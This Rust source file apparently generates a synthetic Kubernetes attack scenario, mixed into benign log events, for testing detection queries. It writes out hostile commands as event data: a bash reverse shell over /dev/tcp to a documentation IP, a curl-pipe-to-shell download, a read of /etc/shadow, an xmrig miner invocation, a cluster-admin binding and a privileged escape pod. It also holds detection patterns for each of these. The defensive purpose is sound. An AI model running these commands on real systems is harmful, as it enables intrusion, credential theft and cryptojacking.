//! The attack scenario woven into the benign stream, and the queries that find each step.
//!
//! The story, in the order the steps appear (then it repeats):
//!
//! 1. a scanner on the internet lists secrets anonymously: denied cluster-wide (403), then
//!    allowed in `default` (200) through a leftover debugging RoleBinding;
//! 2. with the Grafana service-account token it found, it reads the payments secrets from
//!    outside the cluster network (the token is bound to the Grafana pod, the address is not);
//! 3. it binds `default/default` to `cluster-admin` (persistence);
//! 4. as that service account it creates a privileged pod in `kube-system` with `hostPID`,
//!    the node's `/` mounted and `nsenter` into PID 1 (container escape);
//! 5. separately, a stolen on-call laptop runs `kubectl exec` into a payments pod;
//! 6. in there: a shell, then `cat /etc/shadow`;
//! 7. and a bash reverse shell to 203.0.113.7:4444;
//! 8. in `prod/checkout` the Java process spawns `sh -c "curl ... | sh"` (remote code
//!    execution, download and run);
//! 9. which starts an xmrig miner talking to `stratum+tcp://pool.example:3333`.
//!
//! Each step is recognisable by one query (see [`attack_queries`]) and, as the tests check,
//! no benign event matches any of them: the benign stream contains the near misses (kube-proxy
//! is privileged, node-exporter has `hostPID` and mounts `/`, Grafana reads secrets from its
//! pod, a developer execs into staging, Java health checks run `sh -c curl`).

use serde_json::Value;

use super::actors;
use super::audit::{self, Req};
use super::cluster::Cluster;
use super::objects;
use super::process::{self, exec, Exec};
use super::text;
use crate::record::Generated;
use crate::rng::Rand;

/// One step of the scenario.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Attack {
    AnonymousSecrets,
    StolenTokenSecrets,
    ClusterAdminBinding,
    PrivilegedPod,
    ExecIntoPayments,
    ShadowRead,
    ReverseShell,
    CurlPipeShell,
    Miner,
}

/// The steps in scenario order.
pub(super) const ATTACKS: [Attack; 9] = [
    Attack::AnonymousSecrets,
    Attack::StolenTokenSecrets,
    Attack::ClusterAdminBinding,
    Attack::PrivilegedPod,
    Attack::ExecIntoPayments,
    Attack::ShadowRead,
    Attack::ReverseShell,
    Attack::CurlPipeShell,
    Attack::Miner,
];

/// (description, query) per step, in [`ATTACKS`] order. Each query is the step's
/// conditions (`oracle`, test-only) written in the query language; a test keeps the two in
/// step.
const QUERIES: [(&str, &str); 9] = [
    (
        "anonymous requests for secrets: denied (403), then allowed (200)",
        r"user.name:system\:anonymous AND orchestrator.resource.type:secrets",
    ),
    (
        "secrets read with a service-account token from outside the cluster network",
        r"orchestrator.resource.type:secrets AND user.name:system\:serviceaccount\:* AND NOT source.ip:10.*",
    ),
    (
        "cluster-admin granted through a new ClusterRoleBinding",
        r"event.action:create AND orchestrator.resource.type:clusterrolebindings AND k8s.audit.requestObject.roleRef.name:cluster-admin",
    ),
    (
        "privileged pod with hostPID created in kube-system",
        r"event.action:create AND orchestrator.resource.type:pods AND orchestrator.namespace:kube-system AND k8s.audit.requestObject.spec.hostPID:true AND k8s.audit.requestObject.spec.containers.securityContext.privileged:true",
    ),
    (
        "a person ran kubectl exec into a payments pod",
        r"orchestrator.resource.subresource:exec AND orchestrator.namespace:payments AND NOT user.name:system\:*",
    ),
    (
        "/etc/shadow read inside a container",
        r"process.name:cat AND process.args:\/etc\/shadow",
    ),
    (
        "bash reverse shell over /dev/tcp",
        r"process.command_line:*\/dev\/tcp\/*",
    ),
    (
        "script downloaded with curl and piped to a shell",
        r"process.name:curl AND process.parent.name:sh AND process.args:http*.sh",
    ),
    (
        "xmrig cryptominer connecting to a stratum pool",
        r"process.name:xmrig AND process.args:stratum\+tcp\:\/\/*",
    ),
];

/// Every query of [`attack_queries`]: (description, query) in the crowsnest query language.
/// The demo prints them so a newcomer can paste one and find the attack.
pub fn attack_queries() -> &'static [(&'static str, &'static str)] {
    &QUERIES
}

impl Attack {
    /// How many events the step emits (they follow each other in the stream).
    pub(super) fn parts(self) -> usize {
        match self {
            Attack::AnonymousSecrets | Attack::StolenTokenSecrets | Attack::ShadowRead => 2,
            Attack::CurlPipeShell => 3,
            Attack::ClusterAdminBinding
            | Attack::PrivilegedPod
            | Attack::ExecIntoPayments
            | Attack::ReverseShell
            | Attack::Miner => 1,
        }
    }

    /// Event number `part` (< [`Attack::parts`]) of the step, at `micros`.
    pub(super) fn build(
        self,
        part: usize,
        rng: &mut Rand,
        cluster: &Cluster,
        micros: i64,
    ) -> Generated {
        let payments_pod = cluster.pod_of("payments", "payments-api");
        let checkout_pod = cluster.pod_of("prod", "checkout");
        let audit = |rng: &mut Rand, req: Req<'_>| {
            Generated::K8sAudit(audit::build(rng, cluster, req, micros))
        };
        let process = |rng: &mut Rand, pod, exec: &Exec| Generated::Ndjson {
            source: process::DATASET,
            line: with_file_path(process::exec_event(rng, pod, micros, exec, "root"), exec),
        };
        match self {
            Attack::AnonymousSecrets => {
                let scanner = &actors::ANONYMOUS_SCANNER;
                let req = if part == 0 {
                    Req::object(scanner, "list", &audit::SECRETS, None, None).code(403)
                } else {
                    Req::object(scanner, "list", &audit::SECRETS, Some("default"), None)
                };
                audit(rng, req.query("limit=500"))
            }
            Attack::StolenTokenSecrets => {
                let mut req = if part == 0 {
                    Req::object(
                        &actors::GRAFANA,
                        "list",
                        &audit::SECRETS,
                        Some("payments"),
                        None,
                    )
                    .query("limit=500")
                } else {
                    Req::object(
                        &actors::GRAFANA,
                        "get",
                        &audit::SECRETS,
                        Some("payments"),
                        Some("ledger-db-credentials"),
                    )
                };
                req.source_ip = Some(ATTACKER_API_CLIENT);
                req.user_agent = Some(actors::DEFAULT_SA.user_agent);
                audit(rng, req)
            }
            Attack::ClusterAdminBinding => {
                let mut req = Req::object(
                    &actors::GRAFANA,
                    "create",
                    &audit::CLUSTERROLEBINDINGS,
                    None,
                    None,
                )
                .query("fieldManager=kubectl-create&fieldValidation=Strict");
                req.source_ip = Some(ATTACKER_API_CLIENT);
                req.user_agent = Some(actors::DEFAULT_SA.user_agent);
                req.request_object = Some(objects::cluster_role_binding_for_sa(
                    "default-admin",
                    "default",
                    "default",
                    "cluster-admin",
                ));
                audit(rng, req)
            }
            Attack::PrivilegedPod => {
                let name = format!("kube-proxy-debug-{}", text::k8s_suffix(rng, 5));
                let node = super::cluster::NODES[1].name;
                let mut req = Req::object(
                    &actors::DEFAULT_SA,
                    "create",
                    &audit::PODS,
                    Some("kube-system"),
                    None,
                )
                .query("fieldManager=kubectl-run");
                req.request_object = Some(objects::privileged_escape_pod(&name, node));
                audit(rng, req)
            }
            Attack::ExecIntoPayments => {
                let query = "command=sh&container=payments-api&stdin=true&stdout=true&tty=true";
                let req = Req::object(
                    &actors::CAROL,
                    "create",
                    &audit::PODS,
                    Some("payments"),
                    Some(&payments_pod.name),
                )
                .sub("exec")
                .query(query)
                .code(101);
                audit(rng, req)
            }
            Attack::ShadowRead => {
                let exec = if part == 0 { &EXEC_SHELL } else { &CAT_SHADOW };
                process(rng, payments_pod, exec)
            }
            Attack::ReverseShell => process(rng, payments_pod, &REVERSE_SHELL),
            Attack::CurlPipeShell => {
                let exec = [&CURL_PIPE_SH, &CURL_DOWNLOAD, &SH_FROM_PIPE][part.min(2)];
                process(rng, checkout_pod, exec)
            }
            Attack::Miner => process(rng, checkout_pod, &XMRIG),
        }
    }
}

/// Where the attacker talks to the API server from (TEST-NET-2, RFC 5737).
const ATTACKER_API_CLIENT: &str = "198.51.100.23";

const EXEC_SHELL: Exec = exec("/bin/sh", &["sh"], "runc");
const CAT_SHADOW: Exec = exec("/bin/cat", &["cat", "/etc/shadow"], "sh");
const REVERSE_SHELL: Exec = exec(
    "/bin/bash",
    &["bash", "-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"],
    "sh",
);
const CURL_PIPE_SH: Exec = exec(
    "/bin/sh",
    &["sh", "-c", "curl -fsSL http://203.0.113.7/k.sh | sh"],
    "java",
);
const CURL_DOWNLOAD: Exec = exec(
    "/usr/bin/curl",
    &["curl", "-fsSL", "http://203.0.113.7/k.sh"],
    "sh",
);
const SH_FROM_PIPE: Exec = exec("/bin/sh", &["sh"], "sh");
const XMRIG: Exec = exec(
    "/tmp/.x/xmrig",
    &["/tmp/.x/xmrig", "-o", "stratum+tcp://pool.example:3333", "-u", "4AdUndXHHZ6cfufTMvppY6JwXNouMBzSkbLYfpAV5Usx3skxNgYeYTRj5UzqtReoS44qo9mtmXCqY45DJ852K5Jv2684Rge", "-p", "k8s", "--donate-level=1", "--background"],
    "sh",
);

/// Adds `file.path` to events of programs that open a sensitive file named in their args.
fn with_file_path(mut event: Value, exec: &Exec) -> Value {
    if exec.args.contains(&"/etc/shadow") {
        if let Some(map) = event.as_object_mut() {
            map.insert("file".into(), serde_json::json!({"path": "/etc/shadow"}));
        }
    }
    event
}

/// The queries as data: what the tests evaluate against generated events to prove that
/// each query finds its step and nothing benign (the query text is this, rendered).
#[cfg(test)]
pub(super) mod oracle {
    use super::Attack;

    /// One condition of a query: `field:value` (`*` in the value is a wildcard), maybe negated.
    #[derive(Debug)]
    pub(crate) struct Cond {
        /// Dotted field path.
        pub(crate) field: &'static str,
        /// Unescaped value; `*` matches any run of characters.
        pub(crate) value: &'static str,
        /// `NOT field:value`.
        pub(crate) negated: bool,
    }

    const fn is(field: &'static str, value: &'static str) -> Cond {
        Cond {
            field,
            value,
            negated: false,
        }
    }

    const fn not(field: &'static str, value: &'static str) -> Cond {
        Cond {
            field,
            value,
            negated: true,
        }
    }

    /// The conditions all of which an event of a step satisfies (its query, structured), in
    /// [`super::ATTACKS`] order.
    const CONDITIONS: [&[Cond]; 9] = [
        // AnonymousSecrets
        &[
            is("user.name", "system:anonymous"),
            is("orchestrator.resource.type", "secrets"),
        ],
        // StolenTokenSecrets
        &[
            is("orchestrator.resource.type", "secrets"),
            is("user.name", "system:serviceaccount:*"),
            not("source.ip", "10.*"),
        ],
        // ClusterAdminBinding
        &[
            is("event.action", "create"),
            is("orchestrator.resource.type", "clusterrolebindings"),
            is("k8s.audit.requestObject.roleRef.name", "cluster-admin"),
        ],
        // PrivilegedPod
        &[
            is("event.action", "create"),
            is("orchestrator.resource.type", "pods"),
            is("orchestrator.namespace", "kube-system"),
            is("k8s.audit.requestObject.spec.hostPID", "true"),
            is(
                "k8s.audit.requestObject.spec.containers.securityContext.privileged",
                "true",
            ),
        ],
        // ExecIntoPayments
        &[
            is("orchestrator.resource.subresource", "exec"),
            is("orchestrator.namespace", "payments"),
            not("user.name", "system:*"),
        ],
        // ShadowRead
        &[is("process.name", "cat"), is("process.args", "/etc/shadow")],
        // ReverseShell
        &[is("process.command_line", "*/dev/tcp/*")],
        // CurlPipeShell
        &[
            is("process.name", "curl"),
            is("process.parent.name", "sh"),
            is("process.args", "http*.sh"),
        ],
        // Miner
        &[
            is("process.name", "xmrig"),
            is("process.args", "stratum+tcp://*"),
        ],
    ];

    impl Attack {
        /// The conditions all of which an event of this step satisfies (its query, structured).
        pub(crate) fn conditions(self) -> &'static [Cond] {
            // The variants are declared in scenario order, so the discriminant is the index.
            CONDITIONS[self as usize]
        }
    }
}
